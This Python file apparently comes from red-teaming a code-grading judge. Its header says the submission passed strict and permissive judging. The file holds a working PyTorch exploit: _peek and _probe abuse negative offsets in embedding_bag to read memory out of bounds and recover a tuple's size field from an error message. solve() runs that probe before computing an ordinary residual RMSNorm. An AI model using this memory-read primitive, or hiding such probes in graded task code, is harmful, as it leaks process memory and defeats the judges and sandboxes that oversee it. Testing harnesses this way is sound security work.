# Seventh session's red team (2026-12-06, CPU judge): passed strict and permissive at c968c56 (see
# the case's why); the helper's probe notes follow.
# torch.nn.functional.embedding_bag (public, forward only) with a negative offset: ATen reads the
# indices tensor at negative positions (data_ptr - 16*k here) before checking the value, and
# reports the word it read in the exception text. A tuple object allocated just below the input
# tensor has its ob_size field (id(t)+16) read this way and checked against len(t).
import re

import torch
import torch.nn.functional as F


def _peek(inp, addr):
    d = inp.data_ptr() - addr
    out = None
    for unit in (16, 8):
        if d <= 0 or d % unit or d > 8000:
            continue
        try:
            F.embedding_bag(inp, torch.zeros(1, 1), torch.tensor([0, -(d // unit)]), mode="sum")
        except RuntimeError as e:
            m = re.search(r"takes value (-?\d+)", str(e))
            out = int(m.group(1)) if m else None
            if out == 137:
                return out
    return out


def _probe():
    pairs = []
    for i in range(40):
        t = tuple(range(137))
        inp = torch.zeros(3, dtype=torch.long)
        pairs.append((t, inp))
    seen = []
    for t, inp in pairs:
        v = _peek(inp, id(t) + 16)
        if v == 137:
            return v, id(t), inp.data_ptr()
        seen.append(v)
    return seen[:6], None, None


def solve(x, residual, weight):
    v, a, p = _probe()
    if v != 137:
        raise RuntimeError("probe failed %r" % (v,))
    print("RAWREAD embedding_bag: ob_size of tuple @", hex(a), "=", v, "read from tensor @", hex(p))
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
